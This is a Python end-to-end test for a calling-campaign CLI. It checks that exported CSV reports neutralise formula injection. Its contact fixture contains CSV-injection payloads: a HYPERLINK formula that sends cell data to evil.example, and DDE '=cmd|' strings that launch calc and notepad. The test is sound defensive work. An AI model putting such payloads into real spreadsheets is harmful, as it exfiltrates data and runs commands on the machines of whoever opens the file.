"""End to end through the real command line: import a hostile contact CSV, call everyone on the
real sandbox, export the report, and check it against the file and the sandbox's ground truth."""

from __future__ import annotations

import csv
import json
import os
import subprocess
import sys
from pathlib import Path

import pandas as pd
import pytest
from conftest import Sandbox
from test_report_builder import in_process_cli

from campaigns.csvsafe import safe_cell

CONTACTS = [
    ["Customer Name", "Phone", "Notes", "sandbox_outcome", "sandbox_entity_email"],
    [
        'Zoë, "the boss"',
        "+919876543210",
        '=HYPERLINK("http://evil.example/?"&A1,"x")',
        "",
        "=cmd|' /C calc'!A0",
    ],
    ["प्रिया शर्मा", "+91 98765 43211", "line one\nline two, with a comma", "", "p@example.com"],
    ["Raj", "+919876543212", "@SUM(A1:A9)", "no_answer", ""],
    ["-2+3+cmd|' /C calc'!A0", "+919876543213", "+1 555 0100", "", "+cmd|'/C notepad'!A0"],
    ["Bad Number", "12345", "x", "", ""],
]


def run_daemon(*args: str, db_url: str, env: dict[str, str]) -> str:
    """The daemon runs as its own process, as people run it."""
    res = subprocess.run(
        [sys.executable, "-m", "campaigns", "--db", db_url, *args],
        capture_output=True,
        text=True,
        timeout=120,
        env={**os.environ, **env},
    )
    assert res.returncode == 0, f"daemon exit {res.returncode}: {res.stderr[-4000:]}"
    assert "Traceback" not in res.stderr
    return res.stdout


@pytest.mark.slow
def test_report_after_a_real_run(
    db_url: str,
    sandbox: Sandbox,
    tmp_path: Path,
    request: pytest.FixtureRequest,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    run_cli = in_process_cli(request, monkeypatch)

    monkeypatch.setenv("VAANI_MIN_RETRY_DELAY", "1s")  # the re-dial comes within the test

    def cli(*args: str, db_url: str) -> str:
        code = run_cli("--db", db_url, *args)
        out, err = capsys.readouterr()
        assert code == 0, err
        return out

    src = tmp_path / "contacts.csv"
    with src.open("w", encoding="utf-8", newline="") as f:
        csv.writer(f).writerows(CONTACTS)
    created = json.loads(
        cli(
            *("campaign", "create", "e2e", "--csv", str(src), "--agent-id", "agent-1"),
            *("--region", "IN", "--timezone", "UTC", "--window", "00:00-23:59", "--days", "all"),
            *("--max-attempts", "2", "--retry-delay", "1s", "--json"),
            db_url=db_url,
        )
    )
    cid = created["campaign_id"]
    run_daemon(
        *("run", "--base-url", sandbox.base_url, "--until-done", "--poll-interval", "0.3"),
        db_url=db_url,
        env={"VAANI_API_KEY": sandbox.api_key},
    )
    out = tmp_path / "report.csv"
    assert json.loads(cli("report", str(cid), "--out", str(out), "--json", db_url=db_url)) == {
        "path": str(out),
        "rows": 5,
    }

    with src.open(encoding="utf-8", newline="") as f:
        source = list(csv.reader(f))
    with out.open(encoding="utf-8-sig", newline="") as f:
        report = list(csv.reader(f))
    header = report[0]
    assert header[:5] == source[0]
    assert header[5:14] == [
        "phone_e164",
        "state",
        "outcome",
        "reason",
        "attempts",
        "last_call_id",
        "last_call_at",
        "duration_s",
        "summary",
    ]
    # the original cells, in file order, exactly as written or neutralised with a quote
    for src_row, rep_row in zip(source[1:], report[1:], strict=True):
        assert rep_row[:5] == [safe_cell(v) for v in src_row]
    rows = [dict(zip(header, r, strict=True)) for r in report[1:]]
    assert rows[0]["Notes"].startswith("'=HYPERLINK(")
    assert rows[2]["Notes"] == "'@SUM(A1:A9)"
    assert rows[3]["Customer Name"] == "'-2+3+cmd|' /C calc'!A0"
    assert rows[3]["Notes"] == "+1 555 0100"  # a phone number stays as written
    assert [r["Phone"] for r in rows[:4]] == [
        "+919876543210",
        "+91 98765 43211",
        "+919876543212",
        "+919876543213",
    ]
    assert [r["phone_e164"] for r in rows] == [f"+9198765432{i:02d}" for i in range(10, 14)] + [""]
    assert [r["state"] for r in rows] == ["done", "done", "exhausted", "done", "invalid"]
    assert rows[2]["attempts"] == "2" and rows[2]["outcome"] == "no_answer"
    assert rows[4]["reason"] and rows[4]["last_call_id"] == ""

    # entity columns equal the sandbox's ground truth, call by call
    truth = {c["call_id"]: c for c in sandbox.calls()}
    entity_cols = [h for h in header if h.startswith("entity.")]
    assert "entity.email" in entity_cols
    for r in rows:
        if not r["last_call_id"]:
            continue
        call = truth[r["last_call_id"]]
        assert call["contact_number"] == r["phone_e164"]
        assert r["summary"] == safe_cell(call.get("summary") or "")
        entity = call.get("entity") or {}
        for col in entity_cols:
            value = entity.get(col.removeprefix("entity."))
            expected = (
                "" if value is None else value if isinstance(value, str) else json.dumps(value)
            )
            assert r[col] == safe_cell(expected), col
    assert rows[0]["entity.email"] == "'=cmd|' /C calc'!A0"
    assert rows[1]["entity.email"] == "p@example.com"
    assert rows[3]["entity.email"] == "'+cmd|'/C notepad'!A0"

    # pandas reads the same table
    df = pd.read_csv(out, dtype=str, keep_default_na=False, encoding="utf-8-sig")
    assert df.to_dict("records") == rows

    show = json.loads(cli("campaign", "show", str(cid), "--json", db_url=db_url))
    assert show["counts"]["done"] == 3 and show["counts"]["exhausted"] == 1
    assert show["counts"]["invalid"] == 1
    assert show["pickup_rate"] == pytest.approx(3 / 5)  # 3 answered, 2 no-answers
